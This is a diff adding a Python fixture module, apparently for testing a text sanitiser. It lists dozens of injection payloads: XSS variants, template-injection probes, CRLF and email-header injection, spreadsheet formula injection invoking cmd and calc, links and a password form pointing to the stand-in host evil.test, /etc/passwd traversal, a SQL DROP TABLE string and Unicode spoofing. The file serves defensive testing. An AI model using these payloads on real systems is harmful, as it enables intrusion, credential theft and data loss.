@@ -1,0 +1,88 @@
+"""What strangers may write wherever a text is kept: each would run, leave, or change the page if it were not text.
+
+Whatever would make an element carries the attribute `pwn`; whatever would run calls `__hit()`; whatever would leave
+goes to evil.test.
+"""
+
+from typing import Final
+
+RUN: Final = "__hit()"
+AWAY: Final = "http://evil.test/x"
+PAYLOADS: Final = (
+    f"<script pwn>{RUN}</script>",
+    f"<ScRiPt pwn src={AWAY}.js></sCrIpT>",
+    f"</script><script pwn>{RUN}</script>",
+    f"</title><script pwn>{RUN}</script>",
+    f"</textarea><script pwn>{RUN}</script>",
+    f"</style></noscript></template><script pwn>{RUN}</script>",
+    f"--><script pwn>{RUN}</script><!--",
+    f"]]><script pwn>{RUN}</script>",
+    f'"><img pwn src=x onerror={RUN}>',
+    f"'><img pwn src=x onerror={RUN}>",
+    f"`><img pwn src=x onerror={RUN}>",
+    f'" autofocus onfocus={RUN} pwn x="',
+    f"' autofocus onfocus={RUN} pwn x='",
+    f" autofocus onfocus={RUN} pwn ",
+    f"<img/pwn/src=x/onerror={RUN}>",
+    f"<img pwn src=x onerror\n=\n{RUN}>",
+    f"<svg pwn onload={RUN}>",
+    f"<svg pwn><script>{RUN}</script></svg>",
+    f"<svg pwn><animate onbegin={RUN} attributeName=x dur=1s></svg>",
+    f"<svg pwn><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'></svg>",
+    f"<math pwn><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
+    f"<math pwn href=javascript:{RUN}>x</math>",
+    f"<a pwn href=javascript:{RUN}>x</a>",
+    f"javascript:{RUN}",
+    f"java\tscript:{RUN}",
+    f"data:text/html,<script>{RUN}</script>",
+    f"<iframe pwn srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    f"<iframe pwn src={AWAY}></iframe>",
+    f"<object pwn data={AWAY}></object><embed pwn src={AWAY}>",
+    f"<base pwn href={AWAY}>",
+    f"<meta pwn http-equiv=refresh content='0;url={AWAY}'>",
+    f"<link pwn rel=stylesheet href={AWAY}>",
+    f"<style pwn>@import '{AWAY}'; * {{ background: url({AWAY}) }}</style>",
+    f'<b pwn style="background:url({AWAY});width:expression({RUN})">x</b>',
+    f"<img pwn srcset='{AWAY} 1x, {AWAY}2 2x'>",
+    f"<video pwn poster={AWAY}><source onerror={RUN} src=x></video>",
+    f"<form pwn action={AWAY}><button>Sign in</button><input name=password></form>",
+    f"<button pwn form=x formaction={AWAY}>Save</button>",
+    f"<div pwn hx-get={AWAY} hx-trigger=load>x</div>",
+    f"<div pwn hx-on::load={RUN} data-hx-on-load={RUN}>x</div>",
+    f"<div pwn hx-ext=sse sse-connect={AWAY}>x</div>",
+    f"<template pwn><script>{RUN}</script></template>",
+    f"<div pwn><template shadowrootmode=open><img src=x onerror={RUN}></template></div>",
+    f'<script pwn type=importmap>{{"imports":{{"x":"{AWAY}"}}}}</script>',
+    "<form pwn id=content><input name=parentNode></form><a id=bell name=theme pwn>x</a>",
+    f"<details pwn open ontoggle={RUN}>x</details>",
+    f"<marquee pwn onstart={RUN}>x</marquee><x pwn onclick={RUN}>x</x>",
+    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {%raw%} {{config}} [[7*7]]",
+    "{{''.__class__.__mro__[1].__subclasses__()}}",
+    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror={RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
+    f"\\x3csVg/<sVg/oNloAd={RUN}//>\\x3e",
+    f"x\r\nSet-Cookie: pwn=1\r\nBcc: pwn@evil.test\r\n\r\n<script pwn>{RUN}</script>",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.test/x","click")',
+    "+1+1;=1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "safe;=1+1,=1+1\r\n=1+1",
+    "\N{FULLWIDTH EQUALS SIGN}1+1",
+    "\N{RIGHT-TO-LEFT OVERRIDE}gpj.exe \N{RIGHT-TO-LEFT ISOLATE}x",
+    "zero\N{ZERO WIDTH SPACE}width\N{ZERO WIDTH JOINER}\N{WORD JOINER}\N{ZERO WIDTH NO-BREAK SPACE}",
+    "bell\x07 escape\x1b[31m backspace\x08 delete\x7f next\x85 line\u2028 paragraph\u2029",
+    "\U0010ffff\ufffe\uffff Z\u0351\u0310\u0342a\u0334\u0335l\u0336go \U0001f469\u200d\U0001f4bb",
+    "W" * 400,
+    "../../../../etc/passwd %2e%2e%2f %00 ..\\..\\x",
+    "' OR 1=1; DROP TABLE messages; --",
+    "&lt;script&gt;__hit()&lt;/script&gt; &#60;script pwn&#62;",
+    "<!--#exec cmd='x'--> <?php __hit() ?> <![CDATA[<script>__hit()</script>]]>",
+)
+# What no text of the store can hold; only bytes at a door can.
+BYTES: Final = (
+    b"a\0b",
+    b"\xed\xa0\x80 half a pair",
+    b"\xff\xfe\xff",
+    b"=?utf-8?b?AAEC?= =?x?q?=0D=0ABcc:_pwn=40evil.test?=",
+)
